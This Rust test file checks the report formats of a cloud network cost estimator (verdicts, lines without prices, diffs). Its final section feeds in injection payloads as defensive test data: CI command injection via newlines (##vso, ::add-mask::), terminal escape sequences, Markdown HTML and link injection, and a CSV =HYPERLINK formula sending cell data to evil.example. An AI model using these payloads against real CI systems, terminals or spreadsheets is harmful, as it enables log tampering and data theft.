//! What the report formats owe to issues 18, 20 and 21: the design as planned and the verdict for
//! infrastructure code (figures hand-checked from the catalog's meters), no silent zeros (a line
//! without a price says so in every format, a total that leaves one out is marked, a change from
//! or to "no price" is no cost change), and nothing from the input injected into a terminal, a CI
//! log, a Markdown comment or a spreadsheet (the repros of `shared/reference/reliability-2026-12.md`,
//! D7, D8, D19 and D20).

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use serde_json::Value;
use std::process::Command;

const HALF: &str = "tests/fixtures/iac/terraform/half-closed-public-access-on.json";

fn run(args: &[&str]) -> (i32, String, String) {
    let o =
        Command::new(env!("CARGO_BIN_EXE_closednet")).env("CLOSEDNET_TODAY", "2026-11-30").args(args).output().unwrap();
    (
        o.status.code().unwrap_or(-1),
        String::from_utf8(o.stdout).unwrap(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Standard output of a run that must succeed (0, or 1 for a failed check).
fn out(args: &[&str]) -> String {
    let (code, out, err) = run(args);
    assert!(code == 0 || code == 1, "{args:?}: exit {code}: {err}");
    out
}

fn scratch(name: &str, text: &str) -> String {
    let path = crate::support::tmp().join(format!("reports-{name}"));
    std::fs::write(&path, text).unwrap();
    path.to_string_lossy().into_owned()
}

fn workbook(args: &[&str], name: &str) -> Xlsx<std::io::Cursor<Vec<u8>>> {
    let path = crate::support::tmp().join(format!("reports-{name}.xlsx"));
    let mut all = args.to_vec();
    all.extend(["--format", "xlsx", "--output", path.to_str().unwrap()]);
    let (code, _, err) = run(&all);
    assert_eq!(code, 0, "{err}");
    open_workbook_from_rs(std::io::Cursor::new(std::fs::read(&path).unwrap())).unwrap()
}

// ---- Issue 18 item 5: three designs and a verdict ------------------------------------------------

/// The half-closed plan (westeurope), by hand: as planned it builds the SQL database (GP_Gen5_2,
/// 244.46 USD/month, meter 1cd4ee5b-2b55-4dd9-b3d9-ae1b22af74b0), 4 private endpoints whose targets
/// keep public access on (4 x 0.01 USD/h x 730 h = 29.20) and 4 private DNS zones (4 x 0.50 =
/// 2.00): 275.66, the VM without a price. The closed design swaps the endpoints for 4 that close
/// their targets at the same price: closing adds nothing. 29.20 / 275.66 = 10.59%.
#[test]
fn the_table_leads_with_the_verdict_and_its_money() {
    let text = out(&["estimate", HALF]);
    let head: Vec<&str> = text.lines().take(5).collect();
    assert_eq!(
        head,
        [
            "Verdict: half-closed (4 resource(s) judged: 3 half-closed, 1 public).",
            "As planned it costs USD 275.66 per month (incomplete: 1 line(s) have no price).",
            "Closing it fully adds nothing: the closed network costs USD 275.66 per month (both figures leave out lines without a price).",
            "Its private endpoints to resources that keep public access on cost USD 29.20 per month (10.6% of the plan) and close nothing.",
            "",
        ]
    );
    assert!(text.contains("| Total / month    244.46 *     275.66 *         275.66 * |"), "{text}");
    assert!(text.contains("+ private endpoints, public access still on   private-endpoint   -"), "{text}");
    assert!(text.contains(
        "- half-closed azurerm_key_vault.app (priced as kv-app-westeurope-01): public_network_access_enabled=true"
    ));
}

#[test]
fn json_has_the_design_as_planned_the_verdict_and_the_import() {
    let v: Value = serde_json::from_str(&out(&["estimate", HALF, "--format", "json"])).unwrap();
    let planned = &v["designs"]["as_planned"];
    assert_eq!(planned["total_monthly"], "275.66");
    assert_eq!(planned["fixed_share_percent"], "100");
    let added: Vec<(&str, &str)> = planned["added"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["name"].as_str().unwrap(), a["total_monthly"].as_str().unwrap()))
        .collect();
    assert_eq!(added, [("private endpoints, public access still on", "29.20"), ("private DNS zones", "2.00")]);
    let verdict = &v["verdict"];
    assert_eq!(verdict["state"], "half-closed");
    assert_eq!(verdict["as_planned_monthly"], "275.66");
    assert_eq!(verdict["closing_adds_monthly"], "0.00");
    assert_eq!(verdict["open_endpoints_monthly"], "29.20");
    assert_eq!(verdict["open_endpoints_share_percent"], "10.6");
    assert_eq!(verdict["complete"], false);
    let vm = verdict["services"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["source"] == "azurerm_linux_virtual_machine.jump")
        .unwrap();
    assert_eq!(vm["name"], "vm-jump");
    assert_eq!(vm["state"], "public");
    assert_eq!(vm["evidence"][0], "public IP azurerm_public_ip.jump on its network interface");
    assert_eq!(v["import"]["verdict"], "half-closed");
    assert_eq!(v["import"]["skipped"][0]["address"], "azurerm_storage_account.legacy_logs");
    // A resource the catalog lacks is judged with no service: name null.
    let pg: Value = serde_json::from_str(&out(&[
        "estimate",
        "tests/fixtures/iac/terraform/postgresql-single-server-pe.json",
        "--format",
        "json",
    ]))
    .unwrap();
    assert_eq!(pg["verdict"]["services"][0]["name"], Value::Null);
    assert_eq!(pg["verdict"]["services"][0]["source"], "azurerm_postgresql_server.example");
}

#[test]
fn every_document_format_shows_the_design_as_planned_between_the_others() {
    let md = out(&["estimate", HALF, "--format", "markdown"]);
    assert!(md.contains("**Verdict: half-closed (4 resource(s) judged: 3 half-closed, 1 public).**"), "{md}");
    assert!(md.contains(
        "| USD | RBAC-only | As planned | Closed network | Closed minus RBAC-only | Closed minus as planned |"
    ));
    assert!(md.contains(
        "| Total / month | 244.46 (incomplete) | 275.66 (incomplete) | 275.66 (incomplete) | 31.20 (incomplete) | 0.00 (incomplete) |"
    ));
    let (rbac, planned, closed) = (
        md.find("## RBAC-only design").unwrap(),
        md.find("## As-planned design").unwrap(),
        md.find("## Closed-network design").unwrap(),
    );
    assert!(rbac < planned && planned < closed);
    assert!(md.contains("| half-closed | `azurerm_key_vault.app` | kv-app-westeurope-01 |"));
    let html = out(&["estimate", HALF, "--format", "html"]);
    assert!(html.contains("<h2 id=\"verdict\" class=\"warn\">Verdict: half-closed"));
    assert!(
        html.contains(
            "<th class=\"n\">RBAC-only</th><th class=\"n\">As planned</th><th class=\"n\">Closed network</th>"
        )
    );
    assert!(html.contains("<h2>As-planned design</h2>"));
    let csv = out(&["estimate", HALF, "--format", "csv"]);
    let designs: Vec<&str> = csv.lines().skip(1).map(|l| l.split(',').next().unwrap()).collect();
    let first = |d: &str| designs.iter().position(|x| *x == d).unwrap();
    assert!(first("rbac") < first("as_planned") && first("as_planned") < first("closed"));
    assert!(csv.contains(
        "as_planned,\"private endpoints, public access still on\",added,private-access,private-endpoint,standard,"
    ));
}

#[test]
fn the_workbook_opens_on_the_verdict_and_sums_the_design_as_planned() {
    let mut wb = workbook(&["estimate", HALF], "planned");
    assert_eq!(wb.sheet_names()[..5], ["Verdict", "Summary", "RBAC-only", "As planned", "Closed network"]);
    let verdict = wb.worksheet_range("Verdict").unwrap();
    assert_eq!(
        verdict.get_value((0, 0)),
        Some(&Data::String("Verdict: half-closed (4 resource(s) judged: 3 half-closed, 1 public).".into()))
    );
    let summary = wb.worksheet_range("Summary").unwrap();
    assert_eq!(summary.get_value((0, 2)), Some(&Data::String("As planned".into())));
    assert_eq!(summary.get_value((3, 1)), Some(&Data::Float(244.46)));
    assert_eq!(summary.get_value((3, 2)), Some(&Data::Float(275.66)));
    assert_eq!(summary.get_value((3, 3)), Some(&Data::Float(275.66)));
    assert_eq!(summary.get_value((7, 0)), Some(&Data::String("Closed minus As planned / month".into())));
    let formulas = wb.worksheet_formula("Summary").unwrap();
    assert_eq!(formulas.get_value((7, 3)).map(String::as_str), Some("D4-C4"));
}

#[test]
fn check_names_the_verdict_in_its_headline_and_its_json() {
    let text = out(&["check", HALF]);
    assert!(text.ends_with(
        "check passed: closed design USD 275.66/month (incomplete: some lines have no price), +USD 31.20 vs the RBAC-only design; the plan as planned is half-closed and costs USD 275.66/month (incomplete)\n"
    ), "{text}");
    let md = out(&["check", HALF, "--format", "markdown"]);
    assert!(md.contains("; the plan as planned is half-closed and costs USD 275.66/month (incomplete).\n"), "{md}");
    let v: Value = serde_json::from_str(&out(&["check", HALF, "--format", "json"])).unwrap();
    assert_eq!(v["verdict"]["state"], "half-closed");
    assert_eq!(v["verdict"]["services"].as_array().unwrap().len(), 4);
    // An architecture file has no verdict.
    let v: Value = serde_json::from_str(&out(&["check", "examples/small.yaml", "--format", "json"])).unwrap();
    assert!(v.get("verdict").is_none());
}

#[test]
fn diff_compares_the_designs_as_planned_or_says_why_not() {
    // 1,000 GB more of Hot LRS in westeurope: 1,000 x 0.0196 USD = 19.60 in each design.
    let text = out(&["diff", HALF, HALF, "--set", "services.stappdatawe01.usage.gb=1000"]);
    assert!(text.contains("Verdict: half-closed -> half-closed\n"), "{text}");
    assert!(text.contains("\nAs planned:\n"), "{text}");
    assert!(text.contains("| stappdatawe01   storage   hot-lrs       0.00      19.60   +19.60 |"), "{text}");
    let v: Value = serde_json::from_str(&out(&[
        "diff",
        HALF,
        HALF,
        "--set",
        "services.stappdatawe01.usage.gb=1000",
        "--format",
        "json",
    ]))
    .unwrap();
    assert_eq!(v["designs"]["as_planned"]["delta_monthly"], "19.60");
    assert_eq!(v["verdict"]["new"], "half-closed");
    let small = "examples/small.yaml";
    let mixed = out(&["diff", small, HALF, "--region", "eastus2"]);
    assert!(mixed.ends_with(&format!("\nAs planned: not compared: {small} is an architecture file: only infrastructure code has a design as planned.\n")), "{mixed}");
    let md = out(&["diff", small, HALF, "--format", "markdown"]);
    assert!(md.contains("As planned: not compared: examples/small.yaml is an architecture file"), "{md}");
}

// ---- Issue 20 item 1: no silent zeros ---------------------------------------------------------------

/// A VM without a price (japaneast has no saved virtual_machines.json) next to 100 GB of Hot LRS
/// storage (100 x 0.02 USD = 2.00, meter 696220f2-91da-4ca5-920b-151e51a6d103).
const NO_PRICE: &str = "version: 1\nregion: japaneast\nservices:\n  - name: agent\n    type: virtual-machine\n    tier: d2s-v5\n    os: linux\n  - name: docs\n    type: storage\n    usage: { gb: 100 }\n";

#[test]
fn an_unpriced_line_says_no_price_and_its_totals_say_incomplete_in_every_format() {
    let file = scratch("np.yaml", NO_PRICE);
    let table = out(&["estimate", &file]);
    assert!(table.contains("| agent                 virtual-machine    d2s-v5           no price    0.00        d2s-v5   no price    0.00 |"), "{table}");
    assert!(table.contains("| Fixed / month    no price           7.80 * |"), "{table}");
    assert!(table.contains("| Total / month      2.00 *           9.80 * |"), "{table}");
    assert!(table.contains("| Fixed share             -            79.6% |"), "{table}");
    let v: Value = serde_json::from_str(&out(&["estimate", &file, "--format", "json"])).unwrap();
    let agent = &v["designs"]["rbac"]["services"][0];
    assert_eq!(
        (agent["lines"][0]["monthly"].clone(), agent["lines"][0]["priced"].clone()),
        (Value::Null, Value::Bool(false))
    );
    assert_eq!(agent["unpriced_lines"], 1);
    assert_eq!(v["designs"]["rbac"]["complete"], false);
    assert_eq!(v["designs"]["rbac"]["fixed_share_percent"], Value::Null);
    assert_eq!(v["complete"], false);
    let md = out(&["estimate", &file, "--format", "markdown"]);
    assert!(
        md.contains("| agent | d2s-v5 | Standard_D2s_v5 Linux | fixed | 730 | 1 Hour | no price |  | no price |"),
        "{md}"
    );
    assert!(md.contains("| Fixed / month | no price | 7.80 (incomplete) | 7.80 (incomplete) |"), "{md}");
    let html = out(&["estimate", &file, "--format", "html"]);
    assert!(html.contains(
        "<td class=\"n\">no price</td><td class=\"n\"></td><td class=\"n\"><span class=\"warn\">no price</span></td>"
    ));
    assert!(html.contains(
        "<td>Total / month</td><td class=\"n\">2.00 (incomplete)</td><td class=\"n\">9.80 (incomplete)</td>"
    ));
    let csv = out(&["estimate", &file, "--format", "csv"]);
    let row: Vec<&str> = csv.lines().nth(1).unwrap().split(',').collect();
    // list_monthly and monthly are empty, never 0; the source says why.
    assert_eq!((row[1], row[11], row[13]), ("agent", "", ""));
    assert!(row[17].starts_with("no price: "), "{row:?}");
}

#[test]
fn the_workbook_counts_the_lines_still_without_a_price() {
    let file = scratch("np-wb.yaml", NO_PRICE);
    let mut wb = workbook(&["estimate", &file], "np");
    let summary = wb.worksheet_range("Summary").unwrap();
    assert_eq!(summary.get_value((8, 0)), Some(&Data::String("Lines without a price".into())));
    assert_eq!(summary.get_value((8, 1)), Some(&Data::Float(1.0)));
    assert_eq!(summary.get_value((8, 2)), Some(&Data::Float(1.0)));
    assert_eq!(summary.get_value((8, 3)), Some(&Data::String("incomplete: the totals leave these lines out".into())));
    let formulas = wb.worksheet_formula("Summary").unwrap();
    assert_eq!(
        formulas.get_value((8, 1)).map(String::as_str),
        Some("COUNTIFS('RBAC-only'!$K:$K,\"no price*\",'RBAC-only'!$H:$H,\"\")")
    );
}

#[test]
fn a_newly_priced_line_is_no_cost_change_in_diff() {
    // 2023-12 had no price for the VPN gateway (VpnGw1AZ) and the DNS resolver endpoint; at 150 JPY
    // per USD they now cost 153.30 x 150 = 22,995 and 180 x 150 = 27,000. The closed total falls
    // from 1,946,285 (incomplete) to 1,415,594, a like-for-like change of -580,686 (the difference of
    // the totals, -530,691, less the 49,995 newly priced).
    let args = ["diff", "examples/article-2023.yaml", "examples/article.yaml", "--fx", "JPY=150"];
    let text = out(&args);
    assert!(text.contains("| + site-to-site VPN gateway                  vpn-gateway        vpngw1az                              no price        22,995   newly priced |"), "{text}");
    assert!(text.contains("| Total                                                                                             1,946,285 *   1,415,594 *       -580,686 |"), "{text}");
    assert!(text.contains("Not counted as a cost change: newly priced JPY 49,995 (+ site-to-site VPN gateway, + DNS resolver inbound endpoint).\n"));
    let v: Value = serde_json::from_str(&out(&[&args[..], &["--format", "json"]].concat())).unwrap();
    let closed = &v["designs"]["closed"];
    assert_eq!(closed["delta_monthly"], "-580686");
    assert_eq!(closed["newly_priced_monthly"], "49995");
    assert_eq!(closed["old_complete"], false);
    let vpn = closed["changes"].as_array().unwrap().iter().find(|c| c["name"] == "site-to-site VPN gateway").unwrap();
    assert_eq!((vpn["old_monthly"].clone(), vpn["new_monthly"].clone()), (Value::Null, Value::from("22995")));
    assert_eq!((vpn["delta_monthly"].clone(), vpn["newly_priced"].clone()), (Value::from("0"), Value::Bool(true)));
    let md = out(&[&args[..], &["--format", "markdown"]].concat());
    assert!(md.starts_with("### closednet: closed network JPY 1,946,285 (incomplete) -> JPY 1,415,594 (incomplete) per month (-580,686)\n"), "{md}");
    assert!(
        md.contains("| + site-to-site VPN gateway (`vpn-gateway`) | vpngw1az | no price | 22,995 | newly priced |")
    );
}

#[test]
fn check_marks_an_incomplete_total() {
    let file = scratch("np-check.yaml", NO_PRICE);
    let text = out(&["check", &file]);
    assert!(text.ends_with("check passed: closed design USD 9.80/month (incomplete: some lines have no price), +USD 7.80 vs the RBAC-only design\n"), "{text}");
    let v: Value = serde_json::from_str(&out(&["check", &file, "--format", "json"])).unwrap();
    assert_eq!(v["complete"], false);
}

// ---- Issue 21 item 4: nothing injected ---------------------------------------------------------------

/// D7: a function named with a newline and an Azure Pipelines command (its note, CN003, quotes it).
const VSO: &str = "version: 1\nregion: eastus2\nservices:\n  - name: \"fn\\n##vso[task.setvariable variable=x]1\"\n    type: functions\n    runtime: python\n  - name: \"st\\n::add-mask::x\"\n    type: storage\n    usage: {gb: 1}\n";

/// No line of `text` runs a CI command that came from the input: nothing sets a variable or masks
/// a value, and no line starts a workflow command but those closednet writes.
fn no_ci_command(text: &str, what: &str) {
    for line in text.lines() {
        assert!(!line.contains("##vso[task.setvariable"), "{what}: {line}");
        assert!(!line.trim_start().starts_with("::add-mask::"), "{what}: {line}");
        assert!(!line.contains("::add-mask::x") || !line.trim_start().starts_with("::"), "{what}: {line}");
    }
}

#[test]
fn a_name_with_a_newline_cannot_start_a_ci_command_in_any_format() {
    let file = scratch("vso.yaml", VSO);
    for format in ["azure", "github", "text", "markdown", "json", "sarif"] {
        no_ci_command(&out(&["check", &file, "--format", format]), &format!("check --format {format}"));
    }
    for format in ["table", "json", "csv", "markdown", "html"] {
        no_ci_command(&out(&["estimate", &file, "--format", format]), &format!("estimate --format {format}"));
    }
    for format in ["table", "json", "markdown"] {
        let text = out(&["diff", &file, &file, "--set", "services[1].usage.gb=2", "--format", format]);
        no_ci_command(&text, &format!("diff --format {format}"));
    }
    // The names are still there, escaped, and JSON still carries them exactly.
    let azure = out(&["check", &file, "--format", "azure"]);
    assert!(azure.contains("note CN003 "), "{azure}");
    assert!(azure.contains("fn\\n##vso\\[task.setvariable variable=x]1 runs Python"), "{azure}");
    let v: Value = serde_json::from_str(&out(&["estimate", &file, "--format", "json"])).unwrap();
    assert_eq!(v["designs"]["rbac"]["services"][0]["name"], "fn\n##vso[task.setvariable variable=x]1");
}

#[test]
fn the_markdown_diff_of_a_masking_name_has_no_command_line() {
    // D7's second repro, as the reliability battery ran it.
    let file = scratch(
        "mask.yaml",
        "version: 1\nregion: eastus2\nservices:\n  - name: \"st\\n::add-mask::x\"\n    type: storage\n    usage: {gb: 1}\n",
    );
    let md = out(&["diff", &file, &file, "--set", "services[0].usage.gb=2", "--format", "markdown"]);
    no_ci_command(&md, "diff --format markdown");
    assert!(md.contains("| st\\n::add-mask::x (`storage`) |"), "{md}");
}

#[test]
fn terminal_output_shows_escape_sequences_instead_of_running_them() {
    // D19: a name that clears the screen, one that sets the window title, an RTL override.
    let file = scratch(
        "ansi.yaml",
        "version: 1\nregion: eastus2\nservices:\n  - name: \"a\\e[2J\"\n    type: storage\n  - name: \"b\\e]0;title\\a\"\n    type: storage\n  - name: \"c\\u202Edcba\"\n    type: storage\n",
    );
    for args in [vec!["estimate", &file], vec!["check", &file], vec!["diff", &file, &file]] {
        let text = out(&args);
        assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{args:?}: {text:?}");
    }
    let table = out(&["estimate", &file]);
    assert!(table.contains("| a\\u{1b}[2J "), "{table}");
    assert!(table.contains("| b\\u{1b}]0;title\\u{7} "), "{table}");
}

#[test]
fn a_newline_in_a_name_does_not_split_a_table_row() {
    // D19: "a row reading FAIL budget fake".
    let file = scratch(
        "nl.yaml",
        "version: 1\nregion: eastus2\nservices:\n  - name: \"fake\\nFAIL budget fake\"\n    type: storage\n",
    );
    for args in [vec!["estimate", &file], vec!["check", &file], vec!["estimate", &file, "--format", "html"]] {
        let text = out(&args);
        assert!(
            !text.lines().any(|l| l.trim_start_matches(['|', ' ']).starts_with("FAIL budget fake")),
            "{args:?}: {text}"
        );
    }
}

#[test]
fn markdown_escapes_headings_html_links_and_pipes() {
    // D19's md-inject: a heading, raw HTML and a pipe in a name.
    let file = scratch(
        "md.yaml",
        "version: 1\nregion: eastus2\nservices:\n  - name: \"x\\n## injected heading <img src=//evil.example/p.png> [click](http://evil.example) | y\"\n    type: storage\n    usage: {gb: 1}\n",
    );
    for args in [
        vec!["estimate", &file, "--format", "markdown"],
        vec!["check", &file, "--format", "markdown"],
        vec!["diff", &file, &file, "--set", "services[0].usage.gb=2", "--format", "markdown"],
    ] {
        let md = out(&args);
        assert!(!md.lines().any(|l| l.starts_with("## injected")), "{args:?}: {md}");
        assert!(!md.contains("<img") && !md.contains("[click]("), "{args:?}: {md}");
    }
    let md = out(&["estimate", &file, "--format", "markdown"]);
    let row = md.lines().find(|l| l.starts_with("| x\\n")).unwrap();
    assert_eq!(
        row,
        "| x\\n## injected heading &lt;img src=//evil.example/p.png&gt; \\[click\\](http://evil.example) \\| y | hot-lrs | Hot LRS data stored (GB-month) | usage | 1 | 1 GB/Month | 0.02 |  | 0.02 |"
    );
}

#[test]
fn a_csv_cell_never_starts_a_formula() {
    // D8: `=HYPERLINK(...)`, and names starting +, -, @.
    let file = scratch(
        "formula.yaml",
        "version: 1\nregion: eastus2\nservices:\n  - name: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"\n    type: storage\n    usage: {gb: 10}\n  - name: \"+1\"\n    type: storage\n    usage: {gb: 1}\n  - name: \"-1\"\n    type: storage\n    usage: {gb: 1}\n  - name: \"@SUM(A1)\"\n    type: storage\n    usage: {gb: 1}\n",
    );
    let csv = out(&["estimate", &file, "--format", "csv"]);
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[1].to_string()).collect();
    assert!(names.contains(&"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")".to_string()), "{names:?}");
    for name in &names {
        assert!(!name.starts_with(['=', '+', '-', '@', '\t', '\r']), "{name}");
    }
    for lead in ["'+1", "'-1", "'@SUM(A1)"] {
        assert!(names.iter().any(|n| n == lead), "{lead}: {names:?}");
    }
}

#[test]
fn a_cell_over_excels_limit_is_cut_with_a_note() {
    // D20 in small: one name of 40,000 characters (Excel takes 32,767 in a cell).
    let name = "n".repeat(40_000);
    let file = scratch(
        "long.yaml",
        &format!(
            "version: 1\nregion: eastus2\nservices:\n  - name: \"{name}\"\n    type: storage\n    usage: {{gb: 10}}\n"
        ),
    );
    let mut wb = workbook(&["estimate", &file], "long");
    let rbac = wb.worksheet_range("RBAC-only").unwrap();
    let Some(Data::String(cell)) = rbac.get_value((1, 0)) else { panic!("no name cell") };
    assert!(cell.len() <= 32_767, "{}", cell.len());
    assert!(cell.starts_with("nnnn"));
    assert!(cell.ends_with(" ... [truncated: the full text has 40000 characters, over Excel's limit of 32767; the JSON report has all of it]"), "{}", &cell[cell.len() - 120..]);
}
